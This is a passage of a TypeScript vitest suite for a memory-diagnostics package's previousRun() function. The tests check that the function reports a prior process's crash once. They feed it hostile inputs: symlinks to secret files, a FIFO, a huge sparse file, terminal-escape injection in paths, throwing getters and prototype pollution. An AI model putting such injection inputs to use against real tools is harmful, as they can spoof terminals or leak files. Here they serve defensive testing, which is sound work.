// The next start knows how the last one ended (issue 37, docs/previous-run.md): real deaths (a
// V8 heap OOM, a kernel OOM kill in a memory cgroup, an uncaught exception, a clean exit) are
// each answered once per directory by the next start, with inspect's verdict, on both
// implementations; a running process is never taken for a dead one; hostile directories
// never make it throw, block or read more than its bounds.
import { spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { makeMemoryCgroup, root, scratch } from './helpers.js'

const require = createRequire(import.meta.url)
const { previousRun } = require('../index.js')
const { unzipSync } = require('fflate')
const MIB = 2 ** 20
const bundleChild = join(root, '__test__/children/bundle-child.mjs')
const nextStart = join(root, '__test__/children/next-start.mjs')
const death = join(root, '__test__/children/death.mjs')
const cli = join(root, 'bin/memory-diagnostics-dumper.js')
const READERS: { name: string; env: Record<string, string> }[] = [
  { name: 'native', env: {} },
  { name: 'js', env: { MEMORY_DIAGNOSTICS_DUMPER_FORCE_JS: '1' } },
]

/** The next start's answer, from a fresh process (`env`: which implementation answers). */
function ask(dir: string, env: Record<string, string> = {}, session?: string) {
  const r = spawnSync(process.execPath, [nextStart, dir, ...(session ? [session] : [])], { encoding: 'utf8', env: { ...process.env, ...env }, timeout: 30_000 })
  expect(r.status, r.stderr).toBe(0)
  return JSON.parse(r.stdout) as { implementation: string; answer: any }
}

/** inspect's verdict of the directory's only crashed process. */
function inspectVerdict(dir: string) {
  const r = spawnSync(process.execPath, [cli, 'inspect', dir, '--json'], { encoding: 'utf8', timeout: 60_000 })
  const procs = JSON.parse(r.stdout).processes
  return procs.find((p: any) => p.verdict.outcome === 'crashed') ?? procs.at(-1)
}

function v8Oom(dir: string, env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, ['--max-old-space-size=96', bundleChild, dir, 'v8'], {
    encoding: 'utf8',
    env: { ...process.env, ...env },
    timeout: 60_000,
  })
  expect(r.stderr).toMatch(/JavaScript heap out of memory|Reached heap limit/)
}

/** The same verdict inspect gives, and the evidence that backs it. */
function expectInspectsVerdict(answer: any, dir: string) {
  const v = inspectVerdict(dir)
  expect(answer.outcome).toBe(v.verdict.outcome)
  expect(answer.cause?.kind ?? null).toBe(v.verdict.cause?.kind ?? null)
  expect(answer.cause?.text ?? null).toBe(v.verdict.cause?.text ?? null)
  expect(answer.growth?.kind ?? null).toBe(v.verdict.growth.kind)
  expect(answer.pid).toBe(v.pid)
  const names = readdirSync(dir)
  for (const f of answer.files) expect(names).toContain(f)
  expect(answer.files.filter((f: string) => f.startsWith('recorder-'))).toHaveLength(1)
  expect(answer.files.filter((f: string) => f.startsWith('memory-')).length).toBe(v.dumps.length)
}

describe('previousRun(): the next start reports the last death once', () => {
  it.each(READERS)(
    "a V8 heap OOM, answered by the $name implementation: crashed, inspect's verdict, the bundle command works, then never again",
    ({ name, env }) => {
      const dir = join(scratch('prev-v8'), 'diag')
      v8Oom(dir)
      const first = ask(dir, env)
      expect(first.implementation).toBe(name)
      const a = first.answer
      expect(a).toMatchObject({ outcome: 'crashed', died: true, trail: true, liveness: name === 'native' ? 'lock' : 'pid', problem: null })
      expectInspectsVerdict(a, dir)
      expect(a.growth.kind).toBe('JS heap')
      expect(a.line).toMatch(
        /^The last run of this program \(pid \d+\) at \d\d:\d\d:\d\d UTC crashed: .*JS heap grew by \d+ MiB.*\. Evidence: npx memory-diagnostics-dumper bundle \S+ --pid \d+@\d+$/,
      )
      // The command it gives bundles that process.
      const out = join(scratch('prev-v8-zip'), 'evidence.zip')
      const cmd = a.bundleCommand.replace(/^npx memory-diagnostics-dumper bundle /, '').split(' ')
      const b = spawnSync(process.execPath, [cli, 'bundle', dir, ...cmd.slice(1), '-o', out], { encoding: 'utf8', timeout: 60_000 })
      expect(b.status, b.stderr).toBe(0)
      const manifest = JSON.parse(Buffer.from(unzipSync(readFileSync(out))['manifest.json']).toString())
      expect(manifest.selection.processes.map((p: any) => p.pid)).toEqual([a.pid])
      // The marker previousRun left is the package's own: no foreign file to bundle.
      expect(JSON.stringify(manifest)).toContain('"foreignFiles":0')
      // Answered: later starts, of either implementation, say nothing more.
      expect(existsSync(join(dir, `${a.files.find((f: string) => f.startsWith('recorder-'))}.reported`))).toBe(true)
      for (const r of READERS) expect(ask(dir, r.env).answer).toBeNull()
    },
  )

  const cg = makeMemoryCgroup(192 * MIB, 'prevrun')
  if (typeof cg === 'string') console.log(`skipped the previousRun kernel-OOM test: ${cg}`)
  it.skipIf(typeof cg === 'string')('a kernel OOM kill in a memory cgroup: crashed, the kernel named as inspect names it, once', () => {
    const group = cg as Exclude<typeof cg, string>
    try {
      const dir = join(scratch('prev-kernel'), 'diag')
      const r = spawnSync(
        'sh',
        ['-c', 'echo $$ > "$0" && exec "$@"', join(group.dir, 'cgroup.procs'), process.execPath, bundleChild, dir, 'kernel', String(192 * MIB)],
        {
          encoding: 'utf8',
          timeout: 60_000,
        },
      )
      expect(r.signal).toBe('SIGKILL')
      const a = ask(dir).answer
      expect(a).toMatchObject({ outcome: 'crashed', died: true })
      expectInspectsVerdict(a, dir)
      expect(a.cause.kind).toBe('cgroupOomKill')
      expect(a.line).toMatch(/crashed: most likely the kernel OOM killer: cgroup usage \d+ MiB of its 192 MiB limit/)
      expect(ask(dir, READERS[1].env).answer).toBeNull()
    } finally {
      group.remove()
    }
  })

  it('a process that ran on the JS fallback left no trail: its dumps are reported once, saying that how it ended is unknown', () => {
    const dir = join(scratch('prev-js'), 'diag')
    v8Oom(dir, READERS[1].env)
    expect(readdirSync(dir).some((f) => f.startsWith('recorder-'))).toBe(false)
    for (const reader of READERS) {
      const d2 = join(scratch('prev-js-copy'), 'diag')
      mkdirSync(d2, { recursive: true })
      for (const f of readdirSync(dir)) writeFileSync(join(d2, f), readFileSync(join(dir, f)))
      const a = ask(d2, reader.env).answer
      expect(a).toMatchObject({ outcome: 'unknown', died: false, trail: false, liveness: 'pid', cause: null })
      expect(a.evidence).toMatch(/no recorder file/)
      expect(a.files).toHaveLength(2)
      expect(a.line).toMatch(
        // Its growth is named when the two dumps are 16 MiB apart, which a 96 MiB heap may not give.
        /^The last run of this program \(pid \d+\) wrote 2 memory dumps( \(JS heap grew by \d+ MiB\))?; whether it crashed is unknown, as it kept no recorder trail\. Evidence: .* --pid \d+@\d+$/,
      )
      // Every dump of it is marked: the older one is not reported as another process.
      expect(ask(d2, reader.env).answer).toBeNull()
    }
  })

  it('an uncaught exception and a clean exit: told by their exit records; a clean end has no line and is told once too', () => {
    const dir = scratch('prev-deaths')
    spawnSync(process.execPath, [death, dir, 'uncaught'], { encoding: 'utf8', timeout: 30_000 })
    const a = ask(dir).answer
    expect(a).toMatchObject({ outcome: 'crashed', died: true, cause: { kind: 'uncaughtException', confirmed: true } })
    expect(a.cause.text).toMatch(/^uncaught TypeError in parseReply \(death\.mjs:\d+\)$/)
    expect(a.line).toContain('crashed: uncaught TypeError in parseReply')
    expect(ask(dir).answer).toBeNull()
    spawnSync(process.execPath, [death, dir, 'clean'], { encoding: 'utf8', timeout: 30_000 })
    const c = ask(dir).answer
    expect(c).toMatchObject({ outcome: 'clean exit', died: false, line: null, bundleCommand: null, trail: true })
    expect(ask(dir).answer).toBeNull()
  })

  it('two starts at once: exactly one of them reports the death', async () => {
    const dir = join(scratch('prev-race'), 'diag')
    v8Oom(dir)
    const run = (env: Record<string, string>) =>
      new Promise<any>((resolve) => {
        const c = spawn(process.execPath, [nextStart, dir], { env: { ...process.env, ...env } })
        let out = ''
        c.stdout.on('data', (d) => (out += d))
        c.on('exit', () => resolve(JSON.parse(out).answer))
      })
    const answers = await Promise.all([run({}), run({}), run(READERS[1].env), run(READERS[1].env)])
    expect(answers.filter((a) => a !== null)).toHaveLength(1)
    expect(answers.find((a) => a !== null).outcome).toBe('crashed')
  })

  it.each(READERS)('a process still running is never taken for a dead one ($name reader); once killed, it is reported', async ({ env }) => {
    const dir = scratch('prev-live')
    const c = spawn(process.execPath, [join(root, '__test__/children/stay-alive.mjs'), dir], { stdio: ['ignore', 'pipe', 'inherit'] })
    try {
      await new Promise<void>((resolve, reject) => {
        c.stdout.on('data', (d) => String(d).includes('ready') && resolve())
        c.on('exit', () => reject(new Error('the host ended early')))
      })
      expect(ask(dir, env).answer).toBeNull()
      expect(readdirSync(dir).some((f) => f.endsWith('.reported'))).toBe(false)
    } finally {
      c.kill('SIGKILL')
      await new Promise((r) => c.on('exit', r))
    }
    // A fallback reader tells a dead pid by the pid; a dead trail is reported at once either way.
    const a = ask(dir, env).answer
    expect(a).toMatchObject({ outcome: 'crashed', pid: c.pid })
  })

  it("a process's own trail is not its previous run; a session id chooses among sessions", async () => {
    const dir = scratch('prev-own')
    spawnSync(process.execPath, [death, dir, 'uncaught'], { encoding: 'utf8', timeout: 30_000 })
    // Another session's crash in the same directory.
    const other = scratch('prev-other')
    spawnSync(process.execPath, ['--max-old-space-size=96', bundleChild, other, 'v8'], { encoding: 'utf8', timeout: 60_000 })
    for (const f of readdirSync(other)) writeFileSync(join(dir, f), readFileSync(join(other, f)))
    expect(ask(dir, {}, 'no-such-session').answer).toBeNull()
    const death1 = ask(dir, {}, 'death').answer
    expect(death1).toMatchObject({ outcome: 'crashed', sessionId: 'death', cause: { kind: 'uncaughtException' } })
    const v8 = ask(dir, {}, 'bundle-v8').answer
    expect(v8).toMatchObject({ outcome: 'crashed', sessionId: 'bundlev8' })
    // A host that asks after starting its own recorder does not get its own trail.
    const own = spawnSync(
      process.execPath,
      [
        '-e',
        `const m = require(${JSON.stringify(join(root, 'index.js'))}); const d = new m.MemoryDiagnosticsDumper({ directory: ${JSON.stringify(dir)}, recorder: { intervalMs: 50 } }); setTimeout(() => { process.stdout.write(JSON.stringify(m.previousRun({ directory: ${JSON.stringify(dir)} }))); d.close() }, 300)`,
      ],
      { encoding: 'utf8', timeout: 30_000 },
    )
    expect(JSON.parse(own.stdout)).toBeNull()
  })
})

describe('previousRun() never throws, never blocks, reads within its bounds', () => {
  it('bad options are a problem naming the field', () => {
    expect(previousRun(null).problem).toMatch(/^options: /)
    expect(previousRun({ directory: 5 }).problem).toMatch(/^options\.directory: /)
    expect(previousRun({ directory: '' }).problem).toMatch(/^options\.directory: /)
    expect(previousRun({ directory: 'x', sessionId: 3 }).problem).toMatch(/^options\.sessionId: /)
    expect(previousRun({ directory: 'x', bundleCommand: {} }).problem).toMatch(/^options\.bundleCommand: /)
    const hostile = {
      get directory(): string {
        throw new Error('secret-canary')
      },
    }
    const r = previousRun(hostile)
    expect(r.problem).toBe('options.directory: reading it threw')
    expect(JSON.stringify(r)).not.toContain('secret-canary')
    const file = join(scratch('prev-file'), 'f')
    writeFileSync(file, 'x')
    expect(previousRun({ directory: file }).problem).toMatch(/^options\.directory: cannot list it/)
    expect(previousRun({ directory: join(scratch('prev-none'), 'missing') })).toBeNull()
  })

  it('hostile files: a FIFO, a link and a 64 GiB sparse trail never block, are never followed, and only the tail is read', () => {
    const dir = scratch('prev-hostile')
    const secret = join(scratch('prev-secret'), 'recorder-zz-1-aa.jsonl')
    writeFileSync(secret, `${JSON.stringify({ type: 'start', epochMs: Date.now(), pid: 1, sessionId: 'secret-canary' })}\n`)
    symlinkSync(secret, join(dir, 'recorder-link-2-bb.jsonl'))
    spawnSync('mkfifo', [join(dir, 'recorder-fifo-3-cc.jsonl')])
    const huge = join(dir, 'recorder-huge-4-dd.jsonl')
    const start = { type: 'start', epochMs: Date.now() - 60_000, pid: 999_999_999, processStartMs: Date.now() - 61_000, sessionId: 'huge', intervalMs: 1000 }
    writeFileSync(huge, `${JSON.stringify(start)}\n`)
    truncateSync(huge, 64 * 2 ** 30)
    const t = Date.now()
    const r = previousRun({ directory: dir })
    expect(Date.now() - t).toBeLessThan(5000)
    expect(JSON.stringify(r)).not.toContain('secret-canary')
    // The sparse trail's tail is zeros: its process is told from its start record alone.
    expect(r).toMatchObject({ pid: 999_999_999, trailCut: true, files: ['recorder-huge-4-dd.jsonl'] })
    // The link and the FIFO are not ours to answer: no marker is made for them.
    expect(existsSync(join(dir, 'recorder-link-2-bb.jsonl.reported'))).toBe(false)
    expect(existsSync(join(dir, 'recorder-fifo-3-cc.jsonl.reported'))).toBe(false)
  })

  it('a marker whose trail retention removed is removed too; one that is not ours is left alone', () => {
    const dir = scratch('prev-stale')
    writeFileSync(join(dir, 'recorder-gone-5-ee.jsonl.reported'), '')
    writeFileSync(join(dir, 'notes.reported'), 'mine')
    const old = new Date(Date.now() - 3600_000)
    utimesSync(join(dir, 'notes.reported'), old, old)
    expect(previousRun({ directory: dir })).toBeNull()
    expect(existsSync(join(dir, 'recorder-gone-5-ee.jsonl.reported'))).toBe(false)
    expect(readFileSync(join(dir, 'notes.reported'), 'utf8')).toBe('mine')
  })
})

/** A trail of a process that ended without an exit record, written as the recorder writes it. */
function fakeTrail(dir: string, name: string, start: Record<string, unknown>, samples = 3) {
  const t0 = typeof start.epochMs === 'number' ? start.epochMs : Date.now() - 60_000
  const lines = [{ type: 'start', t: new Date(t0).toISOString(), epochMs: t0, schemaVersion: 1, intervalMs: 1000, ...start }]
  for (let i = 1; i <= samples; i++)
    lines.push({ type: 'sample', t: new Date(t0 + i * 1000).toISOString(), epochMs: t0 + i * 1000, rssBytes: 50 * MIB + i } as any)
  writeFileSync(join(dir, name), `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`)
}

describe('previousRun(): what an outside hostile pass found (issue 37)', () => {
  it('a container restarted as pid 1: the last pid 1 is reported at once, and its bundle command never takes the running pid 1', () => {
    const unshare = spawnSync('unshare', ['--pid', '--fork', '--mount-proc', 'true'])
    if (unshare.status !== 0) {
      console.log('skipped the pid-namespace test: unshare --pid is not available here')
      return
    }
    const dir = scratch('prev-pid1')
    spawnSync('unshare', ['--pid', '--fork', '--mount-proc', process.execPath, death, dir, 'uncaught'], { encoding: 'utf8', timeout: 30_000 })
    // The next pid 1 at once, with a recorder of its own, then bundling what it was told.
    const script = `const m = require(${JSON.stringify(join(root, 'index.js'))}); const d = new m.MemoryDiagnosticsDumper({ directory: ${JSON.stringify(dir)}, sessionId: 'death', recorder: { intervalMs: 50 } }); const a = m.previousRun({ directory: ${JSON.stringify(dir)} }); setTimeout(() => { process.stdout.write(JSON.stringify(a)); }, 200)`
    const r = spawnSync('unshare', ['--pid', '--fork', '--mount-proc', process.execPath, '-e', script], { encoding: 'utf8', timeout: 30_000 })
    const a = JSON.parse(r.stdout)
    expect(a).toMatchObject({ outcome: 'crashed', pid: 1, cause: { kind: 'uncaughtException' } })
    expect(a.bundleCommand).toMatch(/ --pid 1@\d+$/)
    // Two pid-1 processes' trails now; the command's start picks the dead one.
    expect(new Set(readdirSync(dir).filter((f) => f.startsWith('recorder-') && !f.endsWith('.reported'))).size).toBe(2)
    const out = join(scratch('prev-pid1-zip'), 'b.zip')
    const b = spawnSync(process.execPath, [cli, 'bundle', dir, '--pid', a.bundleCommand.split('--pid ')[1], '-o', out], { encoding: 'utf8' })
    expect(b.status, b.stderr).toBe(0)
    const manifest = JSON.parse(Buffer.from(unzipSync(readFileSync(out))['manifest.json']).toString())
    expect(manifest.selection.processes).toHaveLength(1)
    expect(manifest.selection.processes[0]).toMatchObject({ pid: 1, cause: 'uncaughtException' })
  })

  it('a running process that keeps no trail, a stopped one, and one whose dumper was closed are never reported while they run', async () => {
    const dir = scratch('prev-running')
    // A JS-fallback host that dumped and stays alive.
    const js = spawn(
      process.execPath,
      [
        '-e',
        `const m = require(${JSON.stringify(join(root, 'index.js'))}); const d = new m.MemoryDiagnosticsDumper({ directory: ${JSON.stringify(dir)}, sessionId: 'jsalive' }); d.dump('hard').then(() => process.stdout.write('ready\\n')); setInterval(() => {}, 1000)`,
      ],
      {
        env: { ...process.env, ...READERS[1].env },
        stdio: ['ignore', 'pipe', 'inherit'],
      },
    )
    // A native host whose dumper is closed (its trail ends "close") and that goes on running.
    const closed = spawn(
      process.execPath,
      [
        '-e',
        `const m = require(${JSON.stringify(join(root, 'index.js'))}); const d = new m.MemoryDiagnosticsDumper({ directory: ${JSON.stringify(dir)}, sessionId: 'closed', recorder: { intervalMs: 50 } }); setTimeout(() => { d.close(); process.stdout.write('ready\\n') }, 200); setInterval(() => {}, 1000)`,
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    )
    // A native host with a recorder, stopped (Ctrl-Z).
    const stopped = spawn(process.execPath, [join(root, '__test__/children/stay-alive.mjs'), dir], { stdio: ['ignore', 'pipe', 'inherit'] })
    const ready = (c: ReturnType<typeof spawn>) => new Promise<void>((resolve) => c.stdout!.on('data', (d) => String(d).includes('ready') && resolve()))
    try {
      await Promise.all([ready(js), ready(closed), ready(stopped)])
      stopped.kill('SIGSTOP')
      await new Promise((r) => setTimeout(r, 600))
      for (const reader of READERS) expect(ask(dir, reader.env).answer).toBeNull()
      expect(readdirSync(dir).filter((f) => f.endsWith('.reported'))).toEqual([])
    } finally {
      for (const c of [js, closed, stopped]) c.kill('SIGKILL')
      await Promise.all([js, closed, stopped].map((c) => new Promise((r) => (c.exitCode !== null || c.signalCode !== null ? r(null) : c.on('exit', r)))))
    }
    // Gone now: each reported once, by whichever start comes first.
    const pids = new Set<number>()
    for (let i = 0; i < 3; i++) pids.add(ask(dir, READERS[i % 2].env).answer.pid)
    expect(pids).toEqual(new Set([js.pid, closed.pid, stopped.pid]))
    expect(ask(dir).answer).toBeNull()
  })

  it('a process that kept no trail is answered once even when a start is cut short after its claim, and with more than 64 dumps', () => {
    const dir = join(scratch('prev-many-dumps'), 'diag')
    v8Oom(dir, READERS[1].env)
    const doc = JSON.parse(readFileSync(join(dir, readdirSync(dir).find((f) => f.startsWith('memory-'))!), 'utf8'))
    // 70 dumps of that one process (its pid and start), a second apart.
    for (let i = 0; i < 70; i++) {
      const t = new Date(Date.parse(doc.timestamp) + (i + 1) * 1000)
      const name = `memory-bundlev8-${t.toISOString().replace(/:/g, '-').replace('.', '-')}-${i + 3}.json`
      writeFileSync(join(dir, name), JSON.stringify({ ...doc, timestamp: t.toISOString(), dumpNumber: i + 3 }))
    }
    const a = ask(dir).answer
    expect(a).toMatchObject({ outcome: 'unknown', trail: false })
    // The newest 64 of its session are looked at, each checked to be its own; the line says there were more.
    expect(a.files.length).toBe(64)
    expect(a.filesCut).toBe(true)
    expect(a.line).toContain('wrote at least 64 memory dumps')
    expect(ask(dir).answer).toBeNull()
    // A start that died after its claim left the dumps unmarked: the process is still answered.
    for (const f of readdirSync(dir)) if (/^memory-.*\.json\.reported$/.test(f)) rmSync(join(dir, f))
    expect(readdirSync(dir).filter((f) => f.endsWith('.reported'))).toHaveLength(1)
    expect(ask(dir, READERS[1].env).answer).toBeNull()
  })

  it('a listing cut at 10,000 entries never removes a marker it did not see the trail of', () => {
    const dir = scratch('prev-cut')
    fakeTrail(dir, 'recorder-cut-424242-aa.jsonl', { pid: 424242 })
    writeFileSync(join(dir, 'recorder-cut-424242-aa.jsonl.reported'), '')
    for (let i = 0; i < 20_000; i++) writeFileSync(join(dir, `junk-${i}`), '')
    expect(previousRun({ directory: dir })).toBeNull()
    expect(existsSync(join(dir, 'recorder-cut-424242-aa.jsonl.reported'))).toBe(true)
  })

  it('a telemetry getter that throws costs the call, never the answer; a getter on any option is named by its field', () => {
    const dir = scratch('prev-getter')
    spawnSync(process.execPath, [death, dir, 'uncaught'], { encoding: 'utf8', timeout: 30_000 })
    const o: any = { directory: dir }
    Object.defineProperty(o, 'telemetry', {
      get() {
        throw new Error('canary')
      },
    })
    const r = previousRun(o)
    expect(r.problem).toBe('options.telemetry: reading it threw')
    expect(previousRun({ directory: dir })).toMatchObject({ outcome: 'crashed' })
    for (const k of ['sessionId', 'bundleCommand']) {
      const p: any = { directory: dir }
      Object.defineProperty(p, k, {
        get() {
          throw new Error('canary')
        },
      })
      expect(previousRun(p).problem).toBe(`options.${k}: reading it threw`)
    }
  })

  it('the bundle command runs as printed: the home directory as a leading ~ only, quoted parts, no raw terminal controls', () => {
    const base = scratch('prev-home')
    const home = join(base, 'home', 'me')
    const cases = [join(home, 'my diag'), join(base, 'me', 'diag'), join(base, 'esc\u001b]0;pwned\u0007', 'diag'), join(home, 'red\u001b[31m', 'diag')]
    for (const dir of cases) {
      mkdirSync(dir, { recursive: true })
      fakeTrail(dir, 'recorder-x-424243-aa.jsonl', { pid: 424243 })
      const r = spawnSync(process.execPath, [nextStart, dir], { encoding: 'utf8', env: { ...process.env, HOME: home } })
      const a = JSON.parse(r.stdout).answer
      expect(a.line).not.toMatch(/[\u0000-\u001f]/)
      if (dir.includes('\u001b')) {
        expect(a.bundleCommand).toContain('\\u001b')
        // Under the home directory, it is `~` still: the escaping never brings the home back.
        if (dir.startsWith(home)) {
          expect(a.bundleCommand).toMatch(/ bundle ~\/'red\\u001b\[31m\/diag' --pid 424243$/)
          expect(a.line).not.toContain(home)
        }
        continue
      }
      expect(a.bundleCommand).toBe(`npx memory-diagnostics-dumper bundle ${dir.startsWith(home) ? "~/'my diag'" : dir} --pid 424243`)
      // The shell finds the directory the command names.
      const sh = spawnSync('sh', ['-c', `ls -d ${a.bundleCommand.split(' bundle ')[1].split(' --pid')[0]}`], {
        encoding: 'utf8',
        env: { ...process.env, HOME: home },
      })
      expect(sh.status, sh.stderr).toBe(0)
    }
  })

  it('a session id matches its own session only; the newest of many trails is the one reported; a hard link is not read', () => {
    const dir = scratch('prev-trails')
    const now = Date.now()
    fakeTrail(dir, 'recorder-app2-777-aa.jsonl', { pid: 777_001, sessionId: 'app2', epochMs: now - 5000 })
    // A trail without a start record (torn, or empty) cannot be told: passed by, never claimed.
    writeFileSync(join(dir, 'recorder-app-778-bb.jsonl'), 'not json\n')
    expect(previousRun({ directory: dir, sessionId: 'app' })).toBeNull()
    expect(existsSync(join(dir, 'recorder-app-778-bb.jsonl.reported'))).toBe(false)
    expect(previousRun({ directory: dir, sessionId: 'app2' })).toMatchObject({ pid: 777_001 })
    const many = scratch('prev-300')
    for (let i = 0; i < 300; i++) {
      const f = `recorder-s${i}-${800_000 + i}-cc.jsonl`
      fakeTrail(many, f, { pid: 800_000 + i, sessionId: `s${i}` }, 1)
      const t = new Date(now - (i === 141 ? 0 : 100_000 + i * 1000))
      utimesSync(join(many, f), t, t)
    }
    expect(previousRun({ directory: many })).toMatchObject({ pid: 800_141 })
    const linked = scratch('prev-hardlink')
    const secret = join(scratch('prev-hardlink-secret'), 'private')
    writeFileSync(secret, `${JSON.stringify({ type: 'start', epochMs: Date.now(), pid: 999_998 })}\n`)
    spawnSync('ln', [secret, join(linked, 'recorder-ln-999998-dd.jsonl')])
    expect(previousRun({ directory: linked })).toBeNull()
  })
})

/** A dump as a writer names and writes it, with the fields the next start reads. */
function fakeDump(dir: string, session: string, epochMs: number, n: number, fields: Record<string, unknown>) {
  const name = `memory-${session}-${new Date(epochMs).toISOString().replace(/[:.]/g, '-')}-${n}.json`
  const doc = { schemaVersion: 1, trigger: 'hard', dumpNumber: n, timestamp: new Date(epochMs).toISOString(), sessionId: session, ...fields }
  writeFileSync(join(dir, name), JSON.stringify(doc))
  return name
}

describe('previousRun(): what a second outside pass found (issue 37)', () => {
  const ago = (ms: number) => Date.now() - ms

  it('a process answered by its trail is never told again from its dumps, its trail removed by retention or not', () => {
    const dir = scratch('prev-trail-gone')
    const t0 = ago(120_000)
    const trail = 'recorder-app-4100001-aa.jsonl'
    fakeTrail(dir, trail, { pid: 4_100_001, processStartMs: t0 - 1000, sessionId: 'app', epochMs: t0 })
    const dumps = [1, 2, 3].map((n) => fakeDump(dir, 'app', t0 + n * 700, n, { pid: 4_100_001, processStartMs: t0 - 1000 }))
    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_001, trail: true, died: true })
    // Its process is marked, and the dumps it read.
    const names = readdirSync(dir)
    expect(names).toContain(`memory-app-pid4100001-start${t0 - 1000}.reported`)
    expect(names).toContain(`${dumps[0]}.reported`)
    expect(names).toContain(`${dumps[2]}.reported`)
    rmSync(join(dir, trail))
    expect(previousRun({ directory: dir })).toBeNull()
    // The dump it had not read is marked now, found answered by its process's marker.
    expect(readdirSync(dir)).toContain(`${dumps[1]}.reported`)
    expect(previousRun({ directory: dir })).toBeNull()
  })

  it("another process's answered trail in a shared session hides nothing: a trail-less process's dumps are still told", () => {
    const dir = scratch('prev-shared-session')
    const t0 = ago(300_000)
    fakeTrail(dir, 'recorder-nosessn-4100011-aa.jsonl', { pid: 4_100_011, processStartMs: t0 - 500, sessionId: '', epochMs: t0 })
    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_011, trail: true })
    expect(previousRun({ directory: dir })).toBeNull()
    // A process on the JS fallback of the same (default) session, later, no trail.
    fakeDump(dir, 'nosessn', ago(60_000), 1, { pid: 4_100_012, processStartMs: ago(70_000), process: { uptimeSeconds: 10 } })
    const a = previousRun({ directory: dir })
    expect(a).toMatchObject({ pid: 4_100_012, trail: false })
    expect(a.bundleCommand).toMatch(/ --pid 4100012@\d+$/)
    expect(previousRun({ directory: dir })).toBeNull()
  })

  it('an empty trail (a writer that gave its name up) takes no dumps: the process that wrote them is told by its own pid', () => {
    const dir = scratch('prev-empty-trail')
    writeFileSync(join(dir, 'recorder-demosess-999-x.jsonl'), '')
    const start = ago(11 * 86_400_000)
    fakeDump(dir, 'demosess', start + 5000, 1, { pid: 4_100_021, processStartMs: start })
    const a = previousRun({ directory: dir })
    expect(a).toMatchObject({ pid: 4_100_021, trail: false, files: [expect.stringMatching(/^memory-demosess-/)] })
    expect(a.bundleCommand).toMatch(new RegExp(` --pid 4100021@${start}$`))
    expect(existsSync(join(dir, 'recorder-demosess-999-x.jsonl.reported'))).toBe(false)
    expect(previousRun({ directory: dir })).toBeNull()
  })

  it('a trail-less answer marks only the dumps it read as its own: a running neighbour of the session is told when it ends', async () => {
    const dir = scratch('prev-neighbour')
    const { startMsOf } = require('../lib/rules/process-start.js')
    const b = spawn('sleep', ['60'], { stdio: 'ignore' })
    try {
      let bStart: number | null = null
      for (let i = 0; i < 100 && bStart == null; i++) {
        bStart = startMsOf(b.pid)
        if (bStart == null) await new Promise((r) => setTimeout(r, 10))
      }
      if (bStart == null) {
        console.log('skipped the neighbour test: procfs does not give the process start here')
        return
      }
      const aStart = ago(600_000)
      fakeDump(dir, 'shared', ago(300_000), 1, { pid: 4_100_031, processStartMs: aStart })
      // The neighbour's dump lies between the ended process's two, unread by its answer.
      const bDump = fakeDump(dir, 'shared', ago(200_000), 1, { pid: b.pid, processStartMs: bStart })
      fakeDump(dir, 'shared', ago(100_000), 2, { pid: 4_100_031, processStartMs: aStart })
      expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_031, trail: false })
      expect(existsSync(join(dir, `${bDump}.reported`))).toBe(false)
      // Still running: nothing to tell.
      expect(previousRun({ directory: dir })).toBeNull()
    } finally {
      b.kill('SIGKILL')
    }
    await new Promise((r) => b.once('exit', r))
    expect(previousRun({ directory: dir })).toMatchObject({ pid: b.pid, trail: false })
    expect(previousRun({ directory: dir })).toBeNull()
  })

  it("past 32 process markers, one goes once no dump from its process's start to its making is left, whoever else writes to the session", () => {
    const dir = scratch('prev-marker-sweep')
    const hourAgo = new Date(ago(3_600_000))
    // Past 32 process markers, their age decides: 40 of processes whose dumps are all gone.
    const stale = Array.from({ length: 40 }, (_, i) => `memory-shared-pid${4_100_000 + i}-start${ago(3_700_000) + i}.reported`)
    for (const m of stale) {
      writeFileSync(join(dir, m), '')
      utimesSync(join(dir, m), hourAgo, hourAgo)
    }
    // A process whose dump is still here keeps its marker.
    const keptStart = ago(3_800_000)
    const kept = `memory-shared-pid4100042-start${keptStart}.reported`
    writeFileSync(join(dir, kept), '')
    utimesSync(join(dir, kept), hourAgo, hourAgo)
    const keptDump = fakeDump(dir, 'shared', keptStart + 1000, 1, { pid: 4_100_042, processStartMs: keptStart })
    writeFileSync(join(dir, `${keptDump}.reported`), '')
    // Newer dumps of the session, of other processes (answered already).
    for (let n = 1; n <= 3; n++) writeFileSync(join(dir, `${fakeDump(dir, 'shared', ago(n * 1000), n, { pid: 4_100_050 + n })}.reported`), '')
    expect(previousRun({ directory: dir })).toBeNull()
    const names = readdirSync(dir)
    for (const m of stale) expect(names).not.toContain(m)
    expect(names).toContain(kept)
    // 32 or fewer are kept while any dump of their session is: no lstat at the usual start.
    const few = scratch('prev-marker-few')
    const one = `memory-shared-pid4100043-start${ago(3_700_000)}.reported`
    writeFileSync(join(few, one), '')
    writeFileSync(join(few, `${fakeDump(few, 'shared', ago(1000), 1, { pid: 4_100_044 })}.reported`), '')
    expect(previousRun({ directory: few })).toBeNull()
    expect(readdirSync(few)).toContain(one)
  })

  it('telemetry is checked before anything is claimed: a bad one is a problem naming its field, and the death is still told', () => {
    const dir = scratch('prev-telemetry-first')
    fakeTrail(dir, 'recorder-tel-4100061-aa.jsonl', { pid: 4_100_061, sessionId: 'tel' })
    expect(previousRun({ directory: dir, telemetry: 42 })).toMatchObject({
      problem: expect.stringMatching(/^options\.telemetry: expected an object/),
      line: null,
    })
    const throwing = {
      logger: {
        get emit() {
          throw new Error('secret-canary')
        },
      },
    }
    const r = previousRun({ directory: dir, telemetry: throwing })
    expect(r.problem).toBe('options.telemetry.logger.emit: reading it threw (an Error)')
    expect(readdirSync(dir).filter((f) => f.endsWith('.reported'))).toEqual([])
    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_061, died: true })
  })

  it('a polluted Object.prototype is never an option: its bundleCommand never reaches the line', () => {
    const dir = scratch('prev-proto')
    fakeTrail(dir, 'recorder-proto-4100071-aa.jsonl', { pid: 4_100_071 })
    const proto = Object.prototype as any
